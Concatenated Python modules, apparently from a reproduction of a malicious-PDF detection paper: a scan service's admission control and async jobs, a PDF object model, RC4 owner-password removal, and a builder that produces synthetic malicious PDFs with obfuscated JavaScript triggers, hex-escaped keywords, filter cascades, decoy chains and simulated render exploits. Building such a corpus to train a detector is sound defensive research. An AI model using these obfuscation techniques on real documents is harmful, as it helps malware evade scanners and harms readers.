        self.config = config if config is not None else AdmissionConfig()
        self._clock = clock
        self._cond = threading.Condition()
        self._queued = 0
        self._in_flight = 0
        self._draining = False
        # Counters (all guarded by the condition's lock).
        self.admitted = 0
        self.completed = 0
        self.shed: Dict[str, int] = {
            SHED_QUEUE_FULL: 0, SHED_DRAINING: 0, SHED_DEADLINE: 0,
        }
        self.peak_queue_depth = 0
        self.peak_in_flight = 0

    # -- request lifecycle -------------------------------------------------

    def admit(self) -> Ticket:
        """Admit one request into the bounded queue or shed it."""
        with self._cond:
            if self._draining:
                self.shed[SHED_DRAINING] += 1
                raise RequestShed(
                    SHED_DRAINING, self.config.retry_after_seconds
                )
            if self._queued >= self.config.max_queue_depth:
                self.shed[SHED_QUEUE_FULL] += 1
                raise RequestShed(
                    SHED_QUEUE_FULL, self.config.retry_after_seconds
                )
            self._queued += 1
            self.admitted += 1
            self.peak_queue_depth = max(self.peak_queue_depth, self._queued)
            now = self._clock()
            deadline = self.config.deadline_seconds
            return Ticket(
                admitted_at=now,
                deadline_at=None if deadline is None else now + deadline,
            )

    def acquire(self, ticket: Ticket) -> None:
        """Block until a worker slot frees up (or the deadline passes).

        Raises :class:`RequestShed` (``queue-deadline``) when the
        request's deadline expires while still queued — scanning it
        anyway could only produce a late answer nobody is waiting for.
        """
        with self._cond:
            while self._in_flight >= self.config.max_in_flight:
                timeout = ticket.remaining(self._clock())
                if timeout is not None and timeout <= 0.0:
                    self._queued -= 1
                    ticket._state = "shed"
                    self.shed[SHED_DEADLINE] += 1
                    self._cond.notify_all()
                    raise RequestShed(
                        SHED_DEADLINE, self.config.retry_after_seconds
                    )
                self._cond.wait(timeout)
            self._queued -= 1
            self._in_flight += 1
            ticket._state = "in-flight"
            self.peak_in_flight = max(self.peak_in_flight, self._in_flight)
            ticket.queue_wait = self._clock() - ticket.admitted_at

    def record_shed(self, reason: str) -> None:
        """Count a shed decided outside the controller (e.g. the async
        submission backlog cap) so ``/metrics`` sees every shed."""
        with self._cond:
            self.shed[reason] = self.shed.get(reason, 0) + 1

    def release(self, ticket: Ticket) -> None:
        """Return the request's slot; safe to call exactly once per ticket."""
        with self._cond:
            if ticket._state == "in-flight":
                self._in_flight -= 1
                self.completed += 1
            elif ticket._state == "queued":
                # Admitted but never acquired (caller bailed early).
                self._queued -= 1
            ticket._state = "released"
            self._cond.notify_all()

    # -- drain / shutdown --------------------------------------------------

    def start_drain(self) -> None:
        """Stop admitting; already-admitted requests keep running."""
        with self._cond:
            self._draining = True
            self._cond.notify_all()

    @property
    def draining(self) -> bool:
        with self._cond:
            return self._draining

    def wait_idle(self, timeout: Optional[float] = None) -> bool:
        """Block until no request is queued or in flight (True) or
        ``timeout`` seconds pass (False)."""
        deadline = None if timeout is None else self._clock() + timeout
        with self._cond:
            while self._queued or self._in_flight:
                remaining = None
                if deadline is not None:
                    remaining = deadline - self._clock()
                    if remaining <= 0:
                        return False
                self._cond.wait(remaining)
            return True

    # -- introspection -----------------------------------------------------

    @property
    def queue_depth(self) -> int:
        with self._cond:
            return self._queued

    @property
    def in_flight(self) -> int:
        with self._cond:
            return self._in_flight

    def snapshot(self) -> Dict[str, Any]:
        """Gauges + counters for ``/metrics`` and ``/healthz``."""
        with self._cond:
            return {
                "queue_depth": self._queued,
                "in_flight": self._in_flight,
                "max_queue_depth": self.config.max_queue_depth,
                "max_in_flight": self.config.max_in_flight,
                "deadline_seconds": self.config.deadline_seconds,
                "draining": self._draining,
                "admitted": self.admitted,
                "completed": self.completed,
                "shed": dict(self.shed),
                "peak_queue_depth": self.peak_queue_depth,
                "peak_in_flight": self.peak_in_flight,
            }
