"""Async job handles for the scan service (``POST /scan?mode=async``).

A gateway client that uploads a large attachment does not want to hold
an HTTP connection open for the whole two-phase scan.  Async mode
returns ``202 Accepted`` with a job id immediately; the scan runs in
the background (through the *same* admission controller as synchronous
requests — async is a delivery mode, not a priority lane) and the
client polls ``GET /jobs/<id>``.

The registry is bounded on both ends: finished jobs are retained FIFO
up to ``max_jobs`` so a polling client has a grace window, and *live*
(queued/running) jobs are capped at submission time — ``create`` with
``max_pending`` refuses a new job while that many are still
non-terminal, which is how the service sheds an async firehose with
429 *before* the request body is parked on the executor queue.
"""

from __future__ import annotations

import secrets
import threading
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Any, Dict, Optional

#: Job states (terminal ones are DONE and SHED — ``error`` outcomes are
#: DONE jobs whose payload carries the errored report).
JOB_QUEUED = "queued"
JOB_RUNNING = "running"
JOB_DONE = "done"
JOB_SHED = "shed"

TERMINAL_STATES = (JOB_DONE, JOB_SHED)


@dataclass
class Job:
    """One async submission's lifecycle record."""

    id: str
    name: str
    state: str = JOB_QUEUED
    submitted_at: float = field(default_factory=time.time)
    finished_at: Optional[float] = None
    #: HTTP status the synchronous path would have answered with.
    status: Optional[int] = None
    #: The response payload (report envelope or shed notice).
    payload: Optional[Dict[str, Any]] = None

    @property
    def terminal(self) -> bool:
        return self.state in TERMINAL_STATES

    def to_dict(self) -> Dict[str, Any]:
        out: Dict[str, Any] = {
            "job": self.id,
            "name": self.name,
            "state": self.state,
            "submitted_at": self.submitted_at,
        }
        if self.finished_at is not None:
            out["finished_at"] = self.finished_at
        if self.status is not None:
            out["status"] = self.status
        if self.payload is not None:
            out["result"] = self.payload
        return out


class JobRegistry:
    """Bounded, thread-safe ``job id -> Job`` store."""

    def __init__(self, max_jobs: int = 1024) -> None:
        if max_jobs < 1:
            raise ValueError("max_jobs must be >= 1")
        self.max_jobs = max_jobs
        self._jobs: "OrderedDict[str, Job]" = OrderedDict()
        self._lock = threading.Lock()
        self.created = 0
        self.evicted = 0
        #: Live (non-terminal) jobs; kept incrementally so the
        #: submission-time backlog check is O(1) under the lock.
        self._pending = 0

    def __len__(self) -> int:
        with self._lock:
            return len(self._jobs)

    def pending_count(self) -> int:
        """Jobs still queued or running (the async backlog)."""
        with self._lock:
            return self._pending

    def create(self, name: str, max_pending: Optional[int] = None) -> Optional[Job]:
        """Register a new queued job, or refuse one.

        With ``max_pending`` set, returns None when that many jobs are
        already non-terminal — the check and the insert are atomic, so
        concurrent submitters cannot overshoot the cap.
        """
        job = Job(id=secrets.token_hex(8), name=name)
        with self._lock:
            if max_pending is not None and self._pending >= max_pending:
                return None
            self._jobs[job.id] = job
            self.created += 1
            self._pending += 1
            self._evict_locked()
        return job

    def get(self, job_id: str) -> Optional[Job]:
        with self._lock:
            return self._jobs.get(job_id)

    def mark_running(self, job_id: str) -> None:
        with self._lock:
            job = self._jobs.get(job_id)
            if job is not None and not job.terminal:
                job.state = JOB_RUNNING

    def finish(
        self,
        job_id: str,
        state: str,
        status: int,
        payload: Dict[str, Any],
    ) -> None:
        if state not in TERMINAL_STATES:
            raise ValueError(f"not a terminal state: {state!r}")
        with self._lock:
            job = self._jobs.get(job_id)
            if job is None:
                return  # never registered; nothing left to record
            if not job.terminal:
                self._pending -= 1
            job.state = state
            job.status = status
            job.payload = payload
            job.finished_at = time.time()

    def _evict_locked(self) -> None:
        """Drop oldest *terminal* jobs over the cap (never live ones —
        a running scan must keep its record so the poller sees the
        result; the cap can be transiently exceeded by live jobs, which
        the submission-time ``max_pending`` check bounds)."""
        if len(self._jobs) <= self.max_jobs:
            return
        for job_id in list(self._jobs):
            if len(self._jobs) <= self.max_jobs:
                break
            if self._jobs[job_id].terminal:
                del self._jobs[job_id]
                self.evicted += 1

    def snapshot(self) -> Dict[str, Any]:
        with self._lock:
            by_state: Dict[str, int] = {}
            for job in self._jobs.values():
                by_state[job.state] = by_state.get(job.state, 0) + 1
            return {
                "jobs": len(self._jobs),
                "pending": self._pending,
                "created": self.created,
                "evicted": self.evicted,
                "by_state": by_state,
            }
