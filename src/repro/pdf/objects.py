"""The PDF object model.

Eight object types exist in PDF: booleans, numbers, strings, names,
arrays, dictionaries, streams and the null object.  Python booleans,
ints and floats represent the first two directly; the rest get small
dedicated classes so the parser can round-trip documents byte-exactly
enough for instrumentation and so the static features can see syntax
details (most importantly the ``#xx`` hex escapes inside names, which
feed the paper's "Hexadecimal Code in Keyword" feature).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Union


class PDFNullType:
    """The PDF ``null`` object (a singleton, like Python's ``None``)."""

    _instance: Optional["PDFNullType"] = None

    def __new__(cls) -> "PDFNullType":
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:
        return "PDFNull"

    def __bool__(self) -> bool:
        return False


PDFNull = PDFNullType()


class PDFName(str):
    """A PDF name object such as ``/JavaScript``.

    The value of the instance is always the *decoded* name (hex escapes
    resolved), so ``PDFName.from_raw("JavaScr#69pt") == PDFName("JavaScript")``.
    The original spelling is retained in :attr:`raw` so static analysis
    can flag hex-code obfuscation.
    """

    raw: str

    def __new__(cls, decoded: str, raw: Optional[str] = None) -> "PDFName":
        obj = super().__new__(cls, decoded)
        obj.raw = raw if raw is not None else cls.encode_default(decoded)
        return obj

    @staticmethod
    def encode_default(decoded: str) -> str:
        """Encode a decoded name minimally (delimiters and ``#`` escaped)."""
        out: List[str] = []
        for ch in decoded:
            code = ord(ch)
            if ch == "#" or code < 0x21 or code > 0x7E or ch in "()<>[]{}/%":
                out.append("#%02X" % code)
            else:
                out.append(ch)
        return "".join(out)

    @classmethod
    def from_raw(cls, raw: str) -> "PDFName":
        """Build a name from its raw on-disk spelling, resolving ``#xx``."""
        decoded: List[str] = []
        i = 0
        while i < len(raw):
            ch = raw[i]
            if ch == "#" and i + 2 < len(raw) + 1:
                hex_digits = raw[i + 1 : i + 3]
                if len(hex_digits) == 2 and all(
                    c in "0123456789abcdefABCDEF" for c in hex_digits
                ):
                    decoded.append(chr(int(hex_digits, 16)))
                    i += 3
                    continue
            decoded.append(ch)
            i += 1
        return cls("".join(decoded), raw=raw)

    @property
    def uses_hex_escape(self) -> bool:
        """True when the on-disk spelling hides characters behind ``#xx``."""
        return "#" in self.raw

    def __repr__(self) -> str:
        return f"PDFName(/{str(self)})"


@dataclass(frozen=True)
class PDFRef:
    """An indirect reference, e.g. ``4 0 R``."""

    num: int
    gen: int = 0

    def __repr__(self) -> str:
        return f"PDFRef({self.num} {self.gen} R)"


class PDFString(bytes):
    """A PDF string object.

    PDF strings are byte strings; they may appear as literal ``(...)``
    or hexadecimal ``<...>`` strings.  :attr:`hex_form` records which
    spelling the document used (writers preserve it).
    """

    hex_form: bool

    def __new__(cls, data: Union[bytes, str], hex_form: bool = False) -> "PDFString":
        if isinstance(data, str):
            data = data.encode("latin-1", errors="replace")
        obj = super().__new__(cls, data)
        obj.hex_form = hex_form
        return obj

    def to_text(self) -> str:
        """Decode to text (UTF-16BE when BOM-prefixed, else Latin-1)."""
        if self.startswith(b"\xfe\xff"):
            return self[2:].decode("utf-16-be", errors="replace")
        return self.decode("latin-1")

    def __repr__(self) -> str:
        return f"PDFString({bytes(self)!r})"


class PDFArray(list):
    """A PDF array object (a plain list with a marker type)."""

    def __repr__(self) -> str:
        return f"PDFArray({list(self)!r})"


class PDFDict(dict):
    """A PDF dictionary object keyed by :class:`PDFName` (or str).

    Lookups accept plain strings; keys are stored as given by the
    parser so hex-escaped spellings survive round-trips.
    """

    def get_name(self, key: str) -> Optional[PDFName]:
        value = self.get(key)
        return value if isinstance(value, PDFName) else None

    def __repr__(self) -> str:
        return f"PDFDict({dict(self)!r})"


class PDFStream:
    """A PDF stream: a dictionary plus raw (encoded) byte data.

    :attr:`raw_data` holds the bytes exactly as they appear between
    ``stream`` and ``endstream``.  Use :meth:`decoded_data` (see
    :mod:`repro.pdf.filters`) for filter-cascade decoding.

    :attr:`budget_key` is a construction-time ordinal giving the stream
    a stable identity for per-document decompression accounting.
    ``id(stream)`` is unusable for that: CPython reuses ids after GC,
    so long batch scans silently merged distinct streams' charges.
    """

    _budget_keys = itertools.count(1)

    def __init__(self, dictionary: Optional[PDFDict] = None, raw_data: bytes = b"") -> None:
        self.dictionary = dictionary if dictionary is not None else PDFDict()
        self.raw_data = raw_data
        self.budget_key = next(PDFStream._budget_keys)

    @property
    def filters(self) -> List[PDFName]:
        """The filter cascade as a list (empty, one, or many)."""
        entry = self.dictionary.get("Filter")
        if entry is None or entry is PDFNull:
            return []
        if isinstance(entry, PDFName):
            return [entry]
        if isinstance(entry, PDFArray):
            return [f for f in entry if isinstance(f, PDFName)]
        return []

    @property
    def encoding_levels(self) -> int:
        """Number of filters applied — the paper's "levels of encoding"."""
        return len(self.filters)

    def decoded_data(self) -> bytes:
        from repro.obs import profile as profile_mod
        from repro.pdf import filters as _filters

        with profile_mod.phase("decompress"):
            data = _filters.decode_stream(self)
        profile_mod.count("decompressed_bytes", len(data))
        return data

    def set_decoded_data(self, data: bytes, filters: Optional[List[str]] = None) -> None:
        """Replace the payload, re-encoding through ``filters`` (if any)."""
        from repro.pdf import filters as _filters

        names = [PDFName(f) for f in (filters if filters is not None else [])]
        encoded = data
        for name in reversed(names):
            encoded = _filters.encode(name, encoded)
        self.raw_data = encoded
        if names:
            if len(names) == 1:
                self.dictionary["Filter"] = names[0]
            else:
                self.dictionary["Filter"] = PDFArray(names)
        else:
            self.dictionary.pop("Filter", None)
        self.dictionary["Length"] = len(encoded)

    def __repr__(self) -> str:
        return f"PDFStream(dict={dict(self.dictionary)!r}, {len(self.raw_data)} raw bytes)"


PDFObject = Union[
    bool, int, float, PDFNullType, PDFString, PDFName, PDFArray, PDFDict, PDFStream, PDFRef
]


@dataclass
class IndirectObject:
    """A numbered object as stored in the document body."""

    num: int
    gen: int
    value: PDFObject

    @property
    def ref(self) -> PDFRef:
        return PDFRef(self.num, self.gen)


@dataclass
class ObjectStore:
    """All indirect objects of a document, addressable by reference."""

    objects: Dict[PDFRef, IndirectObject] = field(default_factory=dict)

    def add(self, obj: IndirectObject) -> PDFRef:
        self.objects[obj.ref] = obj
        return obj.ref

    def resolve(self, value: PDFObject) -> PDFObject:
        """Follow a reference one hop (missing targets become null)."""
        if isinstance(value, PDFRef):
            entry = self.objects.get(value)
            if entry is None and value.gen != 0:
                entry = self.objects.get(PDFRef(value.num, 0))
            return entry.value if entry is not None else PDFNull
        return value

    def deep_resolve(self, value: PDFObject, max_hops: Optional[int] = None) -> PDFObject:
        """Resolve references transitively (bounded against cycles).

        A chain that is still a reference after ``max_hops`` hops is a
        cycle or an absurdly long indirection ladder.  Under an active
        scan budget that blows the ``ref-hops`` budget (the scan aborts
        with structured evidence); otherwise it resolves to ``PDFNull``
        — callers expect a *resolved* value and must never see a leaked
        :class:`PDFRef`.
        """
        if not isinstance(value, PDFRef):
            return value
        budget = None
        if max_hops is None:
            from repro import limits as limits_mod

            budget = limits_mod.active()
            max_hops = (
                budget.limits.max_ref_hops if budget is not None
                else limits_mod.DEFAULT_LIMITS.max_ref_hops
            )
        hops = 0
        while isinstance(value, PDFRef) and hops < max_hops:
            value = self.resolve(value)
            hops += 1
        if isinstance(value, PDFRef):
            if budget is not None:
                budget.exhaust_ref_hops(hops)
            return PDFNull
        return value

    def next_num(self) -> int:
        if not self.objects:
            return 1
        return max(ref.num for ref in self.objects) + 1

    def __iter__(self) -> Iterator[IndirectObject]:
        return iter(sorted(self.objects.values(), key=lambda o: (o.num, o.gen)))

    def __len__(self) -> int:
        return len(self.objects)

    def __contains__(self, ref: PDFRef) -> bool:
        return ref in self.objects

    def __getitem__(self, ref: PDFRef) -> IndirectObject:
        return self.objects[ref]
