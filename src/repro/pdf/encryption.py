"""PDF standard security handler (RC4, revision 2/3 flavour).

The paper's front-end must handle documents "encrypted using an owner's
password ... readable but non-modifiable" by removing that password
before instrumentation (§III-A).  This module implements enough of the
standard handler to create such documents, decrypt them with the empty
user password (exactly what makes owner-password-only PDFs readable),
and strip the encryption — the reproduction of the "PDF password
recovery tool" substitution.
"""

from __future__ import annotations

import hashlib

from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    IndirectObject,
    PDFArray,
    PDFDict,
    PDFName,
    PDFObject,
    PDFRef,
    PDFStream,
    PDFString,
)

#: The 32-byte padding string from the PDF Reference, Algorithm 2.
PAD = bytes(
    [
        0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41,
        0x64, 0x00, 0x4E, 0x56, 0xFF, 0xFA, 0x01, 0x08,
        0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68, 0x3E, 0x80,
        0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A,
    ]
)


def rc4(key: bytes, data: bytes) -> bytes:
    """Plain RC4 (symmetric: encrypt == decrypt)."""
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 0xFF
        state[i], state[j] = state[j], state[i]
    out = bytearray(len(data))
    i = j = 0
    for idx, byte in enumerate(data):
        i = (i + 1) & 0xFF
        j = (j + state[i]) & 0xFF
        state[i], state[j] = state[j], state[i]
        out[idx] = byte ^ state[(state[i] + state[j]) & 0xFF]
    return bytes(out)


def _pad_password(password: bytes) -> bytes:
    return (password + PAD)[:32]


def compute_owner_entry(owner_password: bytes, user_password: bytes) -> bytes:
    """Algorithm 3: the /O entry."""
    digest = hashlib.md5(_pad_password(owner_password)).digest()
    key = digest[:5]
    return rc4(key, _pad_password(user_password))


def compute_encryption_key(
    user_password: bytes, o_entry: bytes, permissions: int, doc_id: bytes
) -> bytes:
    """Algorithm 2: the 40-bit file encryption key."""
    md = hashlib.md5()
    md.update(_pad_password(user_password))
    md.update(o_entry)
    md.update(permissions.to_bytes(4, "little", signed=True))
    md.update(doc_id)
    return md.digest()[:5]


def compute_user_entry(key: bytes) -> bytes:
    """Algorithm 4 (revision 2): the /U entry."""
    return rc4(key, PAD)


def object_key(file_key: bytes, num: int, gen: int) -> bytes:
    md = hashlib.md5()
    md.update(file_key)
    md.update(num.to_bytes(3, "little"))
    md.update(gen.to_bytes(2, "little"))
    return md.digest()[: min(len(file_key) + 5, 16)]


def _transform(value: PDFObject, key: bytes) -> PDFObject:
    """Encrypt/decrypt strings and stream payloads inside ``value``."""
    if isinstance(value, PDFString):
        return PDFString(rc4(key, bytes(value)), hex_form=value.hex_form)
    if isinstance(value, PDFArray):
        return PDFArray([_transform(item, key) for item in value])
    if isinstance(value, PDFStream):
        new_dict = PDFDict(
            {k: _transform(v, key) for k, v in value.dictionary.items()}
        )
        return PDFStream(new_dict, rc4(key, value.raw_data))
    if isinstance(value, PDFDict):
        return PDFDict({k: _transform(v, key) for k, v in value.items()})
    return value


class EncryptionError(ValueError):
    """Raised when a document cannot be decrypted."""


def encrypt_document(
    document: PDFDocument,
    owner_password: str,
    user_password: str = "",
    permissions: int = -44,
) -> PDFDocument:
    """Apply owner-password encryption in place and return the document.

    ``user_password`` defaults to empty — the "readable but
    non-modifiable" mode the paper handles.
    """
    doc_id = hashlib.md5(repr(sorted(r.num for r in document.store.objects)).encode()).digest()
    o_entry = compute_owner_entry(
        owner_password.encode("latin-1"), user_password.encode("latin-1")
    )
    key = compute_encryption_key(
        user_password.encode("latin-1"), o_entry, permissions, doc_id
    )
    u_entry = compute_user_entry(key)

    for entry in list(document.store):
        obj_key = object_key(key, entry.num, entry.gen)
        document.store.add(
            IndirectObject(entry.num, entry.gen, _transform(entry.value, obj_key))
        )

    encrypt_dict = PDFDict(
        {
            PDFName("Filter"): PDFName("Standard"),
            PDFName("V"): 1,
            PDFName("R"): 2,
            PDFName("O"): PDFString(o_entry, hex_form=True),
            PDFName("U"): PDFString(u_entry, hex_form=True),
            PDFName("P"): permissions,
        }
    )
    document.trailer[PDFName("Encrypt")] = document.add_object(encrypt_dict)
    document.trailer[PDFName("ID")] = PDFArray(
        [PDFString(doc_id, hex_form=True), PDFString(doc_id, hex_form=True)]
    )
    return document


def remove_owner_password(document: PDFDocument) -> PDFDocument:
    """Decrypt an owner-password-protected document in place.

    Uses the empty user password (Algorithm 6), which succeeds for the
    owner-password-only mode.  The ``/Encrypt`` dictionary is dropped so
    the instrumented document writes out unencrypted.
    """
    encrypt_entry = document.trailer.get("Encrypt")
    if encrypt_entry is None:
        return document
    encrypt_dict = document.resolve_dict(encrypt_entry)
    if str(encrypt_dict.get("Filter", "")) != "Standard":
        raise EncryptionError("unsupported security handler")
    o_value = document.resolve(encrypt_dict.get("O"))
    if not isinstance(o_value, PDFString):
        raise EncryptionError("missing /O entry")
    permissions = int(document.resolve(encrypt_dict.get("P", -44)))
    id_array = document.resolve(document.trailer.get("ID", PDFArray()))
    if isinstance(id_array, PDFArray) and id_array:
        first_id = document.resolve(id_array[0])
        doc_id = bytes(first_id) if isinstance(first_id, PDFString) else b""
    else:
        doc_id = b""

    key = compute_encryption_key(b"", bytes(o_value), permissions, doc_id)
    u_value = document.resolve(encrypt_dict.get("U"))
    if isinstance(u_value, PDFString) and compute_user_entry(key) != bytes(u_value):
        raise EncryptionError("empty user password rejected")

    encrypt_ref = encrypt_entry if isinstance(encrypt_entry, PDFRef) else None
    for entry in list(document.store):
        if encrypt_ref is not None and entry.ref == encrypt_ref:
            continue
        obj_key = object_key(key, entry.num, entry.gen)
        document.store.add(
            IndirectObject(entry.num, entry.gen, _transform(entry.value, obj_key))
        )
    document.trailer.pop("Encrypt", None)
    if encrypt_ref is not None:
        document.store.objects.pop(encrypt_ref, None)
    return document


def is_encrypted(document: PDFDocument) -> bool:
    return "Encrypt" in document.trailer
