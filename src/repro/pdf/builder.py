"""Construction API for synthetic PDF documents.

The corpus generators use this builder to produce benign and malicious
documents with precise structural control: number of pages and content
objects (which drives the paper's F1 "ratio of objects on Javascript
chains"), indirection depth of JS reference chains, hex-escaped
keywords (F3), empty objects terminating decoy chains (F4), filter
cascade depth (F5), and header obfuscation (F2).
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.pdf import filters as pdf_filters
from repro.pdf.document import PDFDocument
from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFRef,
    PDFStream,
    PDFString,
)


def _name(decoded: str, hex_obfuscate: bool = False) -> PDFName:
    """Make a name, optionally spelling one letter as a ``#xx`` escape."""
    if not hex_obfuscate or not decoded:
        return PDFName(decoded)
    # Hide a mid-word character, mimicking /JavaScr#69pt from the paper.
    idx = len(decoded) // 2
    raw = decoded[:idx] + "#%02x" % ord(decoded[idx]) + decoded[idx + 1 :]
    return PDFName.from_raw(raw)


class DocumentBuilder:
    """Builds a :class:`PDFDocument` incrementally."""

    def __init__(self, version: Tuple[int, int] = (1, 4)) -> None:
        self.document = PDFDocument(version=version)
        self._catalog = PDFDict({PDFName("Type"): PDFName("Catalog")})
        self._catalog_ref = self.document.add_object(self._catalog)
        self._pages = PDFDict(
            {PDFName("Type"): PDFName("Pages"), PDFName("Kids"): PDFArray(), PDFName("Count"): 0}
        )
        self._pages_ref = self.document.add_object(self._pages)
        self._catalog[PDFName("Pages")] = self._pages_ref
        self.document.trailer[PDFName("Root")] = self._catalog_ref

    # -- content -------------------------------------------------------

    def add_page(
        self,
        text: str = "",
        extra_objects: int = 0,
        content_filters: Optional[List[str]] = None,
    ) -> PDFRef:
        """Add a page; ``extra_objects`` attaches inert resources to it."""
        content = PDFStream()
        body = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1", "replace")
        content.set_decoded_data(body, content_filters or ["FlateDecode"])
        content_ref = self.document.add_object(content)
        page = PDFDict(
            {
                PDFName("Type"): PDFName("Page"),
                PDFName("Parent"): self._pages_ref,
                PDFName("MediaBox"): PDFArray([0, 0, 612, 792]),
                PDFName("Contents"): content_ref,
            }
        )
        resources = PDFDict()
        for i in range(extra_objects):
            blob = PDFStream()
            blob.set_decoded_data(
                (f"% resource {i} " + "x" * 64).encode("ascii"), ["FlateDecode"]
            )
            resources[PDFName(f"X{i}")] = self.document.add_object(blob)
        if resources:
            page[PDFName("Resources")] = self.document.add_object(resources)
        page_ref = self.document.add_object(page)
        kids = self._pages[PDFName("Kids")]
        kids.append(page_ref)
        self._pages[PDFName("Count")] = len(kids)
        return page_ref

    def set_info(self, **entries: str) -> PDFRef:
        """Set the document information dictionary (``/Info``).

        Attackers hide shellcode in metadata ("this.info.title"); the
        corpus uses this to build such samples.
        """
        def _text(value: str) -> PDFString:
            try:
                value.encode("latin-1")
                return PDFString(value)
            except UnicodeEncodeError:
                return PDFString(b"\xfe\xff" + value.encode("utf-16-be"))

        info = PDFDict({PDFName(k): _text(v) for k, v in entries.items()})
        ref = self.document.add_object(info)
        self.document.trailer[PDFName("Info")] = ref
        return ref

    def pad_with_objects(self, count: int, payload: bytes = b"padding") -> List[PDFRef]:
        """Add inert off-chain objects (lowers the F1 ratio, benign-like)."""
        refs: List[PDFRef] = []
        for i in range(count):
            stream = PDFStream()
            stream.set_decoded_data(payload + str(i).encode("ascii"), ["FlateDecode"])
            refs.append(self.document.add_object(stream))
        return refs

    def add_empty_objects(self, count: int) -> List[PDFRef]:
        """Add empty dictionary objects (static feature F4)."""
        return [self.document.add_object(PDFDict()) for _ in range(count)]

    # -- JavaScript ------------------------------------------------------------

    def add_javascript(
        self,
        code: str,
        trigger: str = "OpenAction",
        name: Optional[str] = None,
        chain_depth: int = 0,
        hex_obfuscate_keyword: bool = False,
        encoding_levels: int = 0,
        decoy_empty_chain: int = 0,
        next_scripts: Optional[List[str]] = None,
    ) -> PDFRef:
        """Attach JavaScript with structural-obfuscation knobs.

        ``chain_depth``
            Number of pure-indirection hops between the trigger and the
            action dictionary (lengthens the JS chain, feature F1).
        ``hex_obfuscate_keyword``
            Spell ``/JavaScript`` with a ``#xx`` escape (feature F3).
        ``encoding_levels``
            Store code in a stream behind this many filters (feature F5;
            0 keeps the code as a literal string).
        ``decoy_empty_chain``
            Add a decoy JS chain terminating in this many empty objects
            (F4); 0 adds none.
        ``next_scripts``
            Additional scripts invoked sequentially via ``/Next``.
        """
        doc = self.document
        action = PDFDict({_name("S"): _name("JavaScript", hex_obfuscate_keyword)})
        if encoding_levels > 0:
            cascade = pdf_filters.cascade_names(encoding_levels)
            stream = PDFStream()
            stream.set_decoded_data(code.encode("latin-1", "replace"), cascade)
            action[_name("JS", hex_obfuscate_keyword)] = doc.add_object(stream)
        else:
            action[_name("JS", hex_obfuscate_keyword)] = PDFString(
                code.encode("latin-1", "replace")
            )

        tail_ref = doc.add_object(action)
        if next_scripts:
            current = action
            for extra_code in next_scripts:
                nxt = PDFDict(
                    {
                        _name("S"): _name("JavaScript"),
                        _name("JS"): PDFString(extra_code.encode("latin-1", "replace")),
                    }
                )
                nxt_ref = doc.add_object(nxt)
                current[PDFName("Next")] = nxt_ref
                current = nxt

        head_ref = tail_ref
        for _ in range(chain_depth):
            # A pure indirection hop: a dict whose /First points onward.
            hop = PDFDict({PDFName("First"): head_ref})
            head_ref = doc.add_object(hop)
        if chain_depth:
            # The trigger must still reach a real action dict, so the
            # hop chain hangs the action off /Next of a thin action.
            thin = PDFDict(
                {
                    _name("S"): _name("JavaScript"),
                    _name("JS"): PDFString(b""),
                    PDFName("Next"): tail_ref,
                    PDFName("Meta"): head_ref,
                }
            )
            head_ref = doc.add_object(thin)

        catalog = self._catalog
        if trigger == "OpenAction":
            catalog[PDFName("OpenAction")] = head_ref
        elif trigger == "Names":
            doc._add_to_js_name_tree(name or f"js{head_ref.num}", head_ref)
        elif trigger.startswith("AA"):
            event = trigger.split(":", 1)[1] if ":" in trigger else "WillClose"
            aa_entry = catalog.get("AA")
            aa = doc.resolve_dict(aa_entry) if aa_entry is not None else PDFDict()
            aa[PDFName(event)] = head_ref
            catalog[PDFName("AA")] = aa
        else:
            raise ValueError(f"unknown trigger {trigger!r}")

        empty_count = int(decoy_empty_chain)
        if empty_count > 0:
            empties = [doc.add_object(PDFDict()) for _ in range(empty_count)]
            decoy = PDFDict(
                {
                    _name("S"): _name("JavaScript"),
                    _name("JS"): PDFString(b"// decoy"),
                    PDFName("Next"): empties[0],
                }
            )
            if len(empties) > 1:
                decoy[PDFName("Kids")] = PDFArray(empties[1:])
            decoy_ref = doc.add_object(decoy)
            doc._add_to_js_name_tree(f"decoy{decoy_ref.num}", decoy_ref)
        return head_ref

    # -- embedded content -------------------------------------------------------

    RENDER_SUBTYPES = {
        "Flash": "Flash",
        "CoolType": "TrueType",
        "U3D": "U3D",
        "TIFF": "Image",
        "JBIG2": "Image",
    }

    def add_render_exploit(self, cve: str, component: str, data: bytes = b"") -> PDFRef:
        """Embed malformed media exercising a render-time CVE.

        The simulated reader recognises the ``/SimCVE`` tag while
        rendering (out of JS context) and consults the exploit
        registry — the stand-in for genuinely malformed Flash/CoolType/
        U3D/TIFF/JBIG2 payloads.
        """
        stream = PDFStream()
        stream.set_decoded_data(data or b"\x00" * 64, ["FlateDecode"])
        stream.dictionary[PDFName("Subtype")] = PDFName(
            self.RENDER_SUBTYPES.get(component, component)
        )
        stream.dictionary[PDFName("SimCVE")] = PDFString(cve)
        ref = self.document.add_object(stream)
        # Hang it off the first page's resources so it is reachable.
        self._catalog[PDFName("RichMedia")] = ref
        return ref

    def add_embedded_file(self, name: str, data: bytes) -> PDFRef:
        """Attach an embedded file (egg-hunt malware, exportDataObject)."""
        stream = PDFStream()
        stream.set_decoded_data(data, ["FlateDecode"])
        stream.dictionary[PDFName("Type")] = PDFName("EmbeddedFile")
        file_ref = self.document.add_object(stream)
        spec = PDFDict(
            {
                PDFName("Type"): PDFName("Filespec"),
                PDFName("F"): PDFString(name),
                PDFName("EF"): PDFDict({PDFName("F"): file_ref}),
            }
        )
        spec_ref = self.document.add_object(spec)
        names_entry = self._catalog.get("Names")
        names_dict = (
            self.document.resolve_dict(names_entry) if names_entry is not None else None
        )
        if not names_dict:
            names_dict = PDFDict()
            self._catalog[PDFName("Names")] = self.document.add_object(names_dict)
